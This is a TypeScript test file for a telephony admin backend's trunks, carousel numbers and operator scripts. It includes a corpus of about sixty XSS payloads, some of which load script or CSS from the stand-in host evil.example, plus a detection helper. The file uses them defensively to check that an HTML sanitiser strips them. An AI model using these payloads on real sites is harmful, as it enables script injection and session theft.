// Trunks, carousel numbers and operator scripts beyond the generic suite: secrets never sent back, the
// spec's uniqueness texts in both languages, trunks in use, read-only fields, and a corpus of XSS payloads
// that must not survive the operator script's sanitiser.
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { messages } from '../../server/i18n/messages';
import { carouselNumbers } from '../../server/resources/tables/carousel';
import { operatorScripts } from '../../server/resources/tables/script-operator';
import { trunks } from '../../server/resources/tables/trunk';
import { PERMISSION_KEYS, RESOURCES } from '../../server/from-client';
import { useTestApp } from './helpers/app';
import { databaseTargets } from './helpers/databases';
import { resourceApi, tokenWith } from './helpers/resource-api';

const decl = (name: string) => RESOURCES.find((r) => r.name === name)!;

/** Payloads that run script in a browser when stored HTML is rendered unsanitised. */
const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
  '<script type="module">import("//evil.example")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC="javascript:alert(1);">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src="https://ok.example/a.png" onerror="alert(1)">',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="color: expression(alert(1))">x</p>',
  '<p style="color: red; behavior: url(x.htc)">x</p>',
  '<p style="--x: url(javascript:alert(1))">x</p>',
  '<p style="color:red;background-image:url(\'javascript:alert(1)\')">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)//<</script>/script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="x" onmouseenter="alert(1)" id="y" class="z">x</p>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

const TAGS = new Set(
  'p br hr div span b strong i em u s strike del ins mark small sub sup blockquote pre code h1 h2 h3 h4 h5 h6 ul ol li dl dt dd a img table caption colgroup col thead tbody tfoot tr th td'.split(
    ' ',
  ),
);
/** http(s), mailto: and tel:, or a relative URL (no scheme before the first / ? #). */
const SAFE_URL = /^(https?:\/\/|mailto:|tel:|[^:/?#]*([/?#]|$))/i;

/** Why stored HTML could run script, or [] when it cannot: every tag is checked, text is inert. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    const name = /^<\/?\s*([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase();
    if (!name || !TAGS.has(name)) found.push(`tag ${tag}`);
    if (/\son[a-z]+\s*=/i.test(tag)) found.push(`handler in ${tag}`);
    if (/(javascript|vbscript|data)\s*:|expression\s*\(|url\s*\(|behavior|srcdoc|xlink|srcset/i.test(tag))
      found.push(`dangerous value in ${tag}`);
    for (const [, attr, value] of tag.matchAll(/\s(href|src)="([^"]*)"/gi))
      if (!SAFE_URL.test(value)) found.push(`${attr}=${value}`);
  }
  if (/<\s*(script|iframe|svg|style|object|embed|math|base|meta|link|form|body)/i.test(html))
    found.push('forbidden element');
  return found;
}

describe.each(databaseTargets)('trunks, carousel numbers and operator scripts on $name', (target) => {
  const ctx = useTestApp(target);
  const admin = async (name: string, locale = 'en') =>
    resourceApi(ctx, decl(name), await tokenWith(ctx, PERMISSION_KEYS), locale);

  it('stores a trunk password for the telephony side and never sends it back', async () => {
    const api = await admin('trunk');
    const created = await api.create({ title: 'Main', host: 'sip.example.com', password: 'S3cret-trunk' });
    expect(created.statusCode, created.body).toBe(201);
    const { id } = created.json();
    for (const res of [created, await api.show(id), await api.list(), await api.update(id, { capacity: '5' })])
      expect(res.body).not.toMatch(/password|S3cret/);
    const [row] = await ctx.db.select().from(trunks).where(eq(trunks.id, id));
    expect(row.password).toBe('S3cret-trunk');
    await api.update(id, { password: '' }); // empty = unchanged
    expect((await ctx.db.select().from(trunks).where(eq(trunks.id, id)))[0].password).toBe('S3cret-trunk');
    await api.update(id, { password: 'Other-secret' });
    expect((await ctx.db.select().from(trunks).where(eq(trunks.id, id)))[0].password).toBe('Other-secret');
  });

  it('refuses a second trunk of the same name with the spec text, in en and ru', async () => {
    for (const locale of ['en', 'ru'] as const) {
      const api = await admin('trunk', locale);
      const res = await api.create({ title: 'DEMO CARRIER', host: 'h' });
      expect(res.statusCode).toBe(409);
      expect(res.json().errors).toEqual({ title: messages[locale].trunkExists });
    }
    expect(messages.en.trunkExists).toMatch(/trunk with this name.*exists/i);
    expect(messages.ru.trunkExists).toBe('Транк с таким названием уже существует');
  });

  it('refuses to delete a trunk that users, projects or carousel numbers use (409), then allows it', async () => {
    const api = await admin('trunk', 'ru');
    const [demo] = await ctx.db.select().from(trunks).where(eq(trunks.title, 'Demo carrier'));
    const res = await api.remove(demo.id);
    expect(res.statusCode).toBe(409);
    expect(res.json()).toEqual({ code: 'in_use', message: messages.ru.trunkInUse });
    const spare = (await api.create({ title: 'Spare', host: 'h' })).json();
    const carousel = await admin('carousel');
    const number = (
      await carousel.create({ phone: '+7 (495) 111-22-33', trunk_id: String(spare.id) })
    ).json();
    expect((await api.remove(spare.id)).statusCode).toBe(409);
    expect((await carousel.remove(number.id)).statusCode).toBe(204);
    expect((await api.remove(spare.id)).statusCode).toBe(204);
  });

  it('keeps a carousel number: phone as digits, unique, a trunk that exists, last_attempt read-only', async () => {
    const api = await admin('carousel');
    const [demo] = await ctx.db.select().from(trunks).where(eq(trunks.title, 'Demo carrier'));
    const created = await api.create({
      phone: '+7 (900) 123-45-67',
      trunk_id: String(demo.id),
      last_attempt: '2024-01-01T00:00:00Z',
    });
    expect(created.statusCode, created.body).toBe(201);
    expect(created.json()).toMatchObject({
      phone: '79001234567',
      attempts: 0,
      timeout: 60,
      last_attempt: null,
    });
    const when = new Date('2024-03-01T10:00:00Z');
    await ctx.db
      .update(carouselNumbers)
      .set({ last_attempt: when })
      .where(eq(carouselNumbers.id, created.json().id));
    const updated = await api.update(created.json().id, { last_attempt: '', attempts: '2' });
    expect(updated.json()).toMatchObject({ attempts: 2, last_attempt: when.toISOString() });
    const twin = await api.create({ phone: '79001234567', trunk_id: String(demo.id) });
    expect(twin.json().errors).toEqual({ phone: messages.en.phoneExists });
    const ghost = await api.create({ phone: '79001234568', trunk_id: '424242' });
    expect(ghost.json().errors).toEqual({ trunk_id: 'The Trunk field must be a valid value' });
  });

  it('stores operator scripts without any XSS payload of the corpus, in forms and JSON', async () => {
    const api = await admin('scriptOperator');
    for (const [i, payload] of XSS_CORPUS.entries()) {
      const script = `<p>Before ${i}</p>${payload}<p>After</p>`;
      const viaForm = await api.create({ title: `Form ${i}`, script });
      const viaJson = await api.createJson({ title: `Json ${i}`, script });
      for (const res of [viaForm, viaJson]) {
        expect(res.statusCode, `${payload}: ${res.body}`).toBe(201);
        const [row] = await ctx.db
          .select()
          .from(operatorScripts)
          .where(eq(operatorScripts.id, res.json().id));
        expect(dangers(row.script), `${payload} -> ${row.script}`).toEqual([]);
        expect(row.script).toContain(`<p>Before ${i}</p>`);
        expect(res.json().script).toBe(row.script);
        expect((await api.show(row.id)).json().script).toBe(row.script);
      }
      const updated = await api.update(viaForm.json().id, { script: `<p>Again</p>${payload}` });
      expect(dangers(updated.json().script), payload).toEqual([]);
    }
  });

  it('keeps harmless formatting of a script as typed', async () => {
    const api = await admin('scriptOperator');
    const kept = [
      '<h3>Greeting</h3><p>Hello, <strong>bold</strong> <b>b</b> <em>em</em> <i>i</i> <u>u</u> <s>s</s></p>',
      '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
      '<blockquote>quote</blockquote><pre><code>code</code></pre><p>a<br />b</p><hr />',
      '<table><thead><tr><th>Q</th></tr></thead><tbody><tr><td colspan="2">A</td></tr></tbody></table>',
      '<p style="color:#cf1322;text-align:center;font-weight:bold">red</p>',
      '<p><span style="background-color:rgb(255, 255, 0)">marked</span></p>',
      '<img src="https://cdn.example.com/logo.png" alt="logo" width="100" />',
      '<p>5 &lt; 6 &amp; "quotes" stay text</p>',
    ];
    for (const html of kept) {
      const res = await api.create({ title: 'Kept', script: html });
      expect(res.json().script, html).toBe(html);
    }
    const link = await api.create({
      title: 'Link',
      script: '<a href="https://example.com/page" target="_self">page</a> <a href="mailto:a@b.c">mail</a>',
    });
    expect(link.json().script).toBe(
      '<a href="https://example.com/page" rel="noopener noreferrer" target="_blank">page</a> ' +
        '<a href="mailto:a@b.c" rel="noopener noreferrer">mail</a>',
    );
    const scriptOnly = await api.create({ title: 'Empty', script: '<script>alert(1)</script>' });
    expect(scriptOnly.statusCode).toBe(400);
    expect(scriptOnly.json().errors).toEqual({ script: 'The Script field is required' });
  });
});
